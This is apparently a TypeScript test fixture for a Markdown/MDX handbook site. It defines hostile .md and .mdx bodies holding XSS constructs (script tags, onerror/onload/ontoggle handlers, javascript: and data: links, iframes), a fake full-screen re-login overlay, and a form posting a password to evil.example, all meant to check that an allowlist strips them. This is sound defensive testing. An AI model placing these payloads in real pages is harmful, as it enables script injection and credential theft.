/** Hostile content for the build and browser tests: every construct the body allowlist refuses. */
import { cpSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

/** Every construct the allowlist refuses, in one .md and one .mdx body. */
export const HOSTILE_MD = `保留的文字。

<script>window.pwned = 'script'</script>

<style>body { display: none }</style>

<iframe src="https://evil.example/" srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>

<object data="https://evil.example/x.swf"></object>

<embed src="https://evil.example/x.swf">

<form action="https://evil.example/steal"><input name="password"><button>登录</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/">

<img src="pixel.png" onerror="window.pwned = 'onerror'" alt="图">

<img src="x.png" onerror="window.pwned = 'onerror2'" alt="坏图">

<div style="position: fixed; inset: 0; background: white">请重新登录</div>

<svg onload="window.pwned = 'svg'"><circle r="5"/></svg>

[点我](javascript:window.pwned='link')

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">打开</a>

<details ontoggle="window.pwned = 'toggle'" open><summary>展开</summary>

还在。

</details>
`;

export const HOSTILE_MDX = `保留的文字。

<script>{"window.pwned = 'mdx-script'"}</script>

<style>{"body { display: none }"}</style>

<iframe src="https://evil.example/" />

<a href="javascript:window.pwned='mdx-link'">点我</a>

<img src="x.png" alt="图" onError="window.pwned = 'mdx-onerror'" />

<div style="position: fixed; inset: 0; background: white">请重新登录</div>

<details onToggle="window.pwned = 'mdx-toggle'" open><summary>展开</summary>还在。</details>
`;

/** A copy of the base handbook with the hostile bodies as two SOPs. */
export function hostileHandbook(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'opsbook-hostile-'));
  cpSync('test/fixtures/base', dir, { recursive: true });
  const sop = (title: string, body: string) => `---\ntitle: ${title}\nowner: agent\nsteps:\n  - 第一步\n---\n\n${body}`;
  writeFileSync(path.join(dir, 'sops/hostile-md.md'), sop('恶意 Markdown', HOSTILE_MD));
  writeFileSync(path.join(dir, 'sops/hostile-mdx.mdx'), sop('恶意 MDX', HOSTILE_MDX));
  return dir;
}
